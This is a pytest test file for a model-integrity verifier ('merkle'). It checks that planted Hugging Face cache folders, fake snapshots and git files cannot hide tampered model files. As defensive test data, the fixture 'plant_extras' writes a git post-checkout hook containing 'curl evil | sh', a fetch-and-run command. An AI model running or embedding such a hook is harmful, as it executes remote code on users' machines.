"""Issue 14, item 2: the tree's own layout never decides what is checked (docs/hf.md, rule HF10).

What is excluded and how names map to files come from the signed statement (its `exclude`, its recorded Hugging Face
`origin`, OpenSSF's `ignore_paths`) and from explicit options (`--layout`, `--revision`), never from what the tree
holds: an (even empty) `.cache/huggingface/`, a planted `snapshots/<commit>/` + `blobs/` in a folder named
`models--ORG--NAME`, or `.git`. Each example is run as a user would: the real `merkle` program on real files, real
symbolic links, and the real `model_signing` tool for the OpenSSF cases.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from support.cli import assert_one_line_error, run_cli, statuses

import merkle
from merkle.errors import UsageError
from merkle.format.manifest import FileEntry, Manifest
from merkle.format.origin import Origin

COMMIT = "c0ffee" + "0" * 34
REPO = "org/name"
FOLDER = "models--org--name"
MODEL_SIGNING = Path(sys.executable).parent / "model_signing"


@pytest.fixture
def key(tmp_path: Path) -> Path:
    k = tmp_path / "keys" / "release"
    k.parent.mkdir()
    r = run_cli("keygen", "-o", str(k))  # ecdsa-p256: usable for merkle and OpenSSF bundles
    assert r.returncode == 0, r.stderr
    return k


def make_tree(root: Path) -> Path:
    (root / "sub").mkdir(parents=True)
    (root / "config.json").write_text('{"hidden_size": 384}\n')
    (root / "model.safetensors").write_bytes(os.urandom(5000))
    (root / "sub" / "tokenizer.json").write_text('{"v": 1}\n')
    (root / "README.md").write_text("---\nlicense: mit\n---\n# model\n")
    return root


def files_of(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def plant_extras(root: Path) -> None:
    """What someone who can write inside the tree adds: HF bookkeeping (the folder alone marks a local_dir) with an
    unsigned file in it, and a git hook."""
    (root / ".cache" / "huggingface").mkdir(parents=True)
    (root / ".cache" / "huggingface" / "evil.py").write_text("import os  # runs at load time\n")
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")


def plant_snapshot(root: Path, signed: dict[str, bytes], change: bool = True) -> None:
    """Turn a plain tree into a fake Hugging Face cache folder holding the SIGNED bytes: `blobs/<sha256>` and
    `snapshots/<commit>/<path>` links to them, and `refs/main`; then change the real files."""
    (root / "blobs").mkdir()
    (root / "refs").mkdir()
    (root / "refs" / "main").write_text(COMMIT)
    for path, data in signed.items():
        etag = hashlib.sha256(data).hexdigest()
        (root / "blobs" / etag).write_bytes(data)
        link = root / "snapshots" / COMMIT / path
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(os.path.relpath(root / "blobs" / etag, link.parent))
    for path in signed if change else ():
        (root / path).write_bytes(b"attacker's bytes " + path.encode())


def build(tree: Path, out: Path, *args: str) -> Path:
    r = run_cli("build", str(tree), "-o", str(out), *args)
    assert r.returncode == 0, r.stderr
    return out


def verify(*args: object) -> subprocess.CompletedProcess[str]:
    return run_cli("verify", *map(str, args))


def origin_manifest(tree: Path, out: Path, exclude: tuple[str, ...] = (".git",)) -> Path:
    """An unsigned manifest that records a Hugging Face origin over `tree`'s files (as `merkle build` writes for a
    checkout of org/name)."""
    entries = [FileEntry(p, len(d), merkle.hash_file(tree / p)) for p, d in files_of(tree).items()]
    Manifest.create(entries, exclude=exclude, origin=Origin(COMMIT, REPO)).save(out)
    return out


# --------------------------------------------------------------------------------------------------------------------
# Example 1: an (even empty) .cache/huggingface/ does not make a plain tree a local_dir


def test_plain_manifest_reports_hf_bookkeeping_and_git_as_extra(tmp_path):
    """The issue's first example: with `exclude: []` nothing is hidden; `.git/hooks/*` and the unsigned file under
    `.cache/huggingface/` are extra (exit 1)."""
    tree = make_tree(tmp_path / "model")
    manifest = build(tree, tmp_path / "m.json", "--no-default-excludes")
    assert json.loads(manifest.read_text())["exclude"] == []
    plant_extras(tree)
    r = verify(tree, manifest)
    assert r.returncode == 1, r.stdout + r.stderr
    got = statuses(r.stdout)
    assert got[".cache/huggingface/evil.py"] == "+"
    assert got[".git/hooks/post-checkout"] == "+"


def test_empty_hf_folder_does_not_hide_anything(tmp_path):
    """An EMPTY `.cache/huggingface/` was enough to read the tree as a local_dir, which hid `.git` whatever the
    manifest said; only the signed exclusions count."""
    tree = make_tree(tmp_path / "model")
    manifest = build(tree, tmp_path / "m.json", "--no-default-excludes")
    default = build(tree, tmp_path / "d.json")  # excludes .git: the manifest's own (default) exclusion
    (tree / ".cache" / "huggingface").mkdir(parents=True)
    (tree / ".git").mkdir()
    (tree / ".git" / "config").write_text("[core]\n")
    r = verify(tree, manifest, "--json")
    assert r.returncode == 1
    got = {f["path"]: f["status"] for f in json.loads(r.stdout)["files"]}
    assert got[".git/config"] == "extra"
    report = merkle.verify(tree, manifest)
    assert [o.path for o in report.failures] == [".git/config"]
    (tree / ".cache" / "huggingface" / "x.py").write_text("x = 1\n")
    r = verify(tree, default, "--quiet")
    assert r.returncode == 1
    assert statuses(r.stdout) == {".cache/huggingface/x.py": "+"}


def test_sparse_and_files_modes_follow_the_same_rule(tmp_path):
    tree = make_tree(tmp_path / "model")
    manifest = build(tree, tmp_path / "m.json", "--no-default-excludes")
    plant_extras(tree)
    r = verify(tree, manifest, "--sparse")
    assert r.returncode == 1
    assert statuses(r.stdout)[".git/hooks/post-checkout"] == "+"


def test_audit_follows_the_same_rule(tmp_path):
    tree = make_tree(tmp_path / "model")
    manifest = build(tree, tmp_path / "m.json", "--no-default-excludes")
    plant_extras(tree)
    for depth in ((), ("--sample", "1", "--seed", "1")):
        r = run_cli("audit", str(tree), str(manifest), *depth)
        assert r.returncode == 1, (depth, r.stdout + r.stderr)
        assert statuses(r.stdout)[".cache/huggingface/evil.py"] == "+", depth


def test_signed_bundle_same_rule(tmp_path, key):
    tree = make_tree(tmp_path / "model")
    out = tmp_path / "m.bundle"
    r = run_cli("build", str(tree), "--no-default-excludes", "--sign", str(key), "-o", str(out))
    assert r.returncode == 0, r.stderr
    plant_extras(tree)
    r = verify(tree, out, "--key", f"{key}.pub")
    assert r.returncode == 1, r.stdout + r.stderr
    assert statuses(r.stdout)[".cache/huggingface/evil.py"] == "+"


# --------------------------------------------------------------------------------------------------------------------
# Example 2: a plain tree named models--ORG--NAME with a planted snapshot is checked as the files it holds


@pytest.fixture
def planted(tmp_path) -> tuple[Path, Path]:
    """A plain tree named like a cache folder, its plain manifest, then a planted snapshot of the signed bytes and
    other bytes in the real files."""
    tree = make_tree(tmp_path / FOLDER)
    manifest = build(tree, tmp_path / "m.json")
    assert "origin" not in json.loads(manifest.read_text())
    plant_snapshot(tree, files_of(tree))
    return tree, manifest


def test_planted_snapshot_is_not_verified_instead_of_the_real_files(planted):
    """The issue's second example: exit 0 before, while every real file held other bytes."""
    tree, manifest = planted
    r = verify(tree, manifest)
    assert r.returncode == 1, r.stdout + r.stderr
    got = statuses(r.stdout)
    assert got["config.json"] == "*" and got["model.safetensors"] == "*"
    assert got["refs/main"] == "+" and any(p.startswith("blobs/") and s == "+" for p, s in got.items())
    assert any(p.startswith("snapshots/") and s == "+" for p, s in got.items())  # links: refused (W3), unsigned


@pytest.mark.parametrize(
    "mode",
    [
        ("--sparse",),
        ("--files", "config.json"),
        ("--file", "config.json"),
        ("--file", "model.safetensors", "--range", "0:100"),
    ],
)
def test_planted_snapshot_partial_modes(planted, mode):
    """--sparse, --files and --file (with --range) open the real file, not the planted link's blob."""
    tree, manifest = planted
    r = verify(tree, manifest, *mode)
    assert r.returncode == 1, (mode, r.stdout + r.stderr)


def test_license_reads_the_readme_the_tree_check_read(tmp_path):
    """--allow-license reads README.md where the tree check read it (the real file), never a planted snapshot's."""
    tree = make_tree(tmp_path / FOLDER)
    manifest = build(tree, tmp_path / "m.json")
    (tree / "refs").mkdir()
    (tree / "refs" / "main").write_text(COMMIT)
    (tree / "snapshots" / COMMIT).mkdir(parents=True)
    (tree / "snapshots" / COMMIT / "README.md").write_text("---\nlicense: apache-2.0\n---\n")
    r = verify(tree, manifest, "--allow-extra", "--allow-license", "mit")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "license mit allowed" in r.stderr
    from merkle.hf import readme_license

    assert readme_license(tree, Manifest.load(manifest), ["mit"]) == ("mit",)


def test_planted_snapshot_audit(planted):
    tree, manifest = planted
    for depth in ((), ("--sample", "1", "--seed", "1")):
        r = run_cli("audit", str(tree), str(manifest), *depth)
        assert r.returncode == 1, (depth, r.stdout + r.stderr)
        assert statuses(r.stdout)["config.json"] == "*", depth


def test_planted_snapshot_under_a_signed_hf_origin_is_refused(tmp_path):
    """Sibling: a manifest that does record a Hugging Face origin, over a folder that is NOT a cache folder but is
    named like the origin's one (a local_dir copy, say).  The name makes it the cache (HF10), so the snapshot is
    read; but the folder's own files are not part of any cache folder, so verification stops (exit 2) naming one,
    rather than vouching for the snapshot while they go unchecked."""
    tree = make_tree(tmp_path / FOLDER)
    manifest = origin_manifest(tree, tmp_path / "m.json")
    plant_snapshot(tree, files_of(tree))
    r = verify(tree, manifest)
    assert r.returncode == 2, r.stdout + r.stderr
    assert_one_line_error(r, "not part of a Hugging Face cache folder", "--layout")
    r = verify(tree, manifest, "--layout", "hf-local-dir")
    assert r.returncode == 1
    assert statuses(r.stdout)["config.json"] == "*"
    r = verify(tree, manifest, "--file", "config.json")
    assert r.returncode == 2, r.stdout + r.stderr


def test_build_refuses_a_cache_folder_with_foreign_files(tmp_path):
    """`merkle build` recognises checkouts (and records what it found); a folder that is both a cache folder and a
    tree of its own is ambiguous: it names a file and asks for --layout."""
    tree = make_tree(tmp_path / FOLDER)
    plant_snapshot(tree, files_of(tree))
    r = run_cli("build", str(tree), "-o", str(tmp_path / "m.json"))
    assert r.returncode == 2
    assert_one_line_error(r, "not part of a Hugging Face cache folder")
    r = run_cli("hf", "verify", str(tree))
    assert r.returncode == 2
    assert_one_line_error(r, str(tree / "README.md"), "not part of a Hugging Face cache folder")
    r = run_cli("build", str(tree), "--layout", "plain", "--follow-symlinks", "-o", str(tmp_path / "m.json"))
    assert r.returncode == 0, r.stderr
    doc = json.loads((tmp_path / "m.json").read_text())
    assert "origin" not in doc and "config.json" in {f["path"] for f in doc["files"]}


# --------------------------------------------------------------------------------------------------------------------
# A signed Hugging Face origin: ordinary use, and what it does (and does not) hide


def test_origin_manifest_local_dir_hides_only_the_bookkeeping(tmp_path):
    """With an origin the tree is a checkout of that repository: a local_dir's `.cache/huggingface` is bookkeeping,
    but `.git` is hidden only when the signed exclusions say so."""
    tree = make_tree(tmp_path / "model")
    bare = origin_manifest(tree, tmp_path / "bare.json", exclude=())
    usual = origin_manifest(tree, tmp_path / "usual.json", exclude=(".git",))
    plant_extras(tree)
    r = verify(tree, bare)
    assert r.returncode == 1, r.stdout + r.stderr
    got = statuses(r.stdout)
    assert got[".git/hooks/post-checkout"] == "+"
    assert ".cache/huggingface/evil.py" not in got
    r = verify(tree, usual)
    assert r.returncode == 0, r.stdout + r.stderr


def test_build_local_dir_records_what_it_leaves_out(tmp_path):
    """Build may recognise a local_dir, but only what it records is left out later: with --no-default-excludes a
    local_dir's `.git` is hashed (before: skipped and not recorded)."""
    tree = make_tree(tmp_path / "model")
    (tree / ".cache" / "huggingface").mkdir(parents=True)
    (tree / ".git").mkdir()
    (tree / ".git" / "config").write_text("[core]\n")
    out = build(tree, tmp_path / "m.json", "--no-default-excludes")
    doc = json.loads(out.read_text())
    assert doc["exclude"] == [".cache/huggingface"]
    assert ".git/config" in {f["path"] for f in doc["files"]}
    assert verify(tree, out).returncode == 0


def test_explicit_layout_options(tmp_path):
    """--layout reads the tree as the user says; --revision alone asks for a cache snapshot."""
    tree = make_tree(tmp_path / "model")
    manifest = build(tree, tmp_path / "m.json")
    r = verify(tree, manifest, "--layout", "hf-cache")
    assert r.returncode == 2
    assert_one_line_error(r, "not a Hugging Face cache folder")
    r = verify(tree, manifest, "--revision", COMMIT)
    assert r.returncode == 2
    assert_one_line_error(r, "not a Hugging Face cache folder")
    (tree / ".cache" / "huggingface").mkdir(parents=True)
    (tree / ".cache" / "huggingface" / "x").write_text("x")
    assert verify(tree, manifest, "--layout", "hf-local-dir").returncode == 0
    assert verify(tree, manifest).returncode == 1
    with pytest.raises(UsageError):
        merkle.verify(tree, Manifest.load(manifest), layout="hf-cache")
    assert merkle.verify(tree, Manifest.load(manifest), layout="hf-local-dir").ok


def test_layout_of_an_object_store_url_is_a_usage_error(tmp_path):
    tree = make_tree(tmp_path / "model")
    manifest = build(tree, tmp_path / "m.json")
    r = verify("memory://bucket/model", manifest, "--layout", "hf-cache")
    assert r.returncode == 2
    assert_one_line_error(r, "--layout applies to local directories")


def fake_cache(tmp_path: Path) -> Path:
    """A cache repo folder holding only what huggingface_hub puts there."""
    src = make_tree(tmp_path / "src")
    folder = tmp_path / "hub" / FOLDER
    folder.mkdir(parents=True)
    plant_snapshot(folder, files_of(src), change=False)
    return folder


def test_oms_bundle_of_a_cache_folder_needs_an_explicit_layout(tmp_path, key):
    """An OpenSSF statement cannot record that the snapshot was read, so build and verify must both be told."""
    folder = fake_cache(tmp_path)
    out = tmp_path / "oms.bundle"
    r = run_cli("build", str(folder), "--sign", str(key), "--format", "oms", "-o", str(out))
    assert r.returncode == 2
    assert_one_line_error(r, "cannot record", "--layout hf-cache")
    r = run_cli("build", str(folder), "--sign", str(key), "--format", "oms", "--layout", "hf-cache", "-o", str(out))
    assert r.returncode == 0, r.stderr
    assert verify(folder, out, "--key", f"{key}.pub").returncode == 1  # plain: links, blobs and refs are not it
    r = verify(folder, out, "--key", f"{key}.pub", "--layout", "hf-cache")
    assert r.returncode == 0, r.stdout + r.stderr
    r = verify(folder / "snapshots" / COMMIT, out, "--key", f"{key}.pub", "--revision", COMMIT)
    assert r.returncode == 0, r.stdout + r.stderr


def test_origin_manifest_reads_its_own_cache_folder(tmp_path):
    """Ordinary use: a manifest with an origin checks the repository's cache folder (or a snapshot) through the
    snapshot, with no option; another repository's origin does not make it a cache."""
    folder = fake_cache(tmp_path)
    snapshot = folder / "snapshots" / COMMIT
    entries = [FileEntry(p, len(d), merkle.hash_file(snapshot / p)) for p, d in files_of(snapshot).items()]
    ours = tmp_path / "ours.json"
    Manifest.create(entries, origin=Origin(COMMIT, REPO)).save(ours)
    assert verify(folder, ours).returncode == 0
    assert verify(snapshot, ours).returncode == 0
    theirs = tmp_path / "theirs.json"
    Manifest.create(entries, origin=Origin(COMMIT, "other/name")).save(theirs)
    r = verify(folder, theirs)
    assert r.returncode == 1  # read as a local_dir: snapshots/, blobs/ and refs/ are not the files
    assert verify(folder, theirs, "--layout", "hf-cache").returncode == 0


# --------------------------------------------------------------------------------------------------------------------
# OpenSSF model-signing bundles: only OMS's own ignores (top-level git files) and the signed ignore_paths


def ms_verify(model: Path, bundle: Path, key: Path) -> subprocess.CompletedProcess[str]:
    assert MODEL_SIGNING.exists(), MODEL_SIGNING
    return subprocess.run(
        [str(MODEL_SIGNING), "verify", "key", str(model), "--signature", str(bundle), "--public_key", f"{key}.pub"],
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )


def test_oms_bundle_reports_planted_hf_bookkeeping(tmp_path, key):
    tree = make_tree(tmp_path / "model")
    out = tmp_path / "oms.bundle"
    r = run_cli("build", str(tree), "--sign", str(key), "--format", "oms", "-o", str(out))
    assert r.returncode == 0, r.stderr
    (tree / ".cache" / "huggingface").mkdir(parents=True)
    (tree / ".cache" / "huggingface" / "evil.py").write_text("x\n")
    (tree / ".git").mkdir()
    (tree / ".git" / "HEAD").write_text("ref: refs/heads/main\n")  # OMS's own rule: top-level .git is ignored
    r = verify(tree, out, "--key", f"{key}.pub")
    assert r.returncode == 1, r.stdout + r.stderr
    got = statuses(r.stdout)
    assert got[".cache/huggingface/evil.py"] == "+" and ".git/HEAD" not in got
    assert ms_verify(tree, out, key).returncode != 0  # model_signing agrees: the planted file is extra


def test_oms_bundle_planted_snapshot(tmp_path, key):
    tree = make_tree(tmp_path / FOLDER)
    out = tmp_path / "oms.bundle"
    r = run_cli("build", str(tree), "--sign", str(key), "--format", "oms", "-o", str(out))
    assert r.returncode == 0, r.stderr
    plant_snapshot(tree, files_of(tree))
    r = verify(tree, out, "--key", f"{key}.pub")
    assert r.returncode == 1, r.stdout + r.stderr
    assert statuses(r.stdout)["config.json"] == "*"


def test_oms_verify_keeps_openssf_git_ignores(tmp_path, key):
    """OMS's own rule (model_signing ignores top-level .git, .gitattributes, .github, .gitignore even when the
    statement's ignore_paths do not list them); nested ones are files like any other."""
    tree = make_tree(tmp_path / "model")
    ms = subprocess.run(
        [
            str(MODEL_SIGNING),
            "sign",
            "key",
            str(tree),
            "--private_key",
            str(key),
            "--signature",
            str(tmp_path / "ms.sig"),
            "--no-ignore-git-paths",
        ],
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )
    assert ms.returncode == 0, ms.stdout + ms.stderr
    (tree / ".github").mkdir()
    (tree / ".github" / "ci.yml").write_text("on: push\n")
    (tree / "sub" / ".github").mkdir()
    (tree / "sub" / ".github" / "x").write_text("x\n")
    r = verify(tree, tmp_path / "ms.sig", "--key", f"{key}.pub")
    assert r.returncode == 1, r.stdout + r.stderr
    got = statuses(r.stdout)
    assert got["sub/.github/x"] == "+" and ".github/ci.yml" not in got
    assert ms_verify(tree, tmp_path / "ms.sig", key).returncode != 0
    (tree / "sub" / ".github" / "x").unlink()
    assert verify(tree, tmp_path / "ms.sig", "--key", f"{key}.pub").returncode == 0
    assert ms_verify(tree, tmp_path / "ms.sig", key).returncode == 0
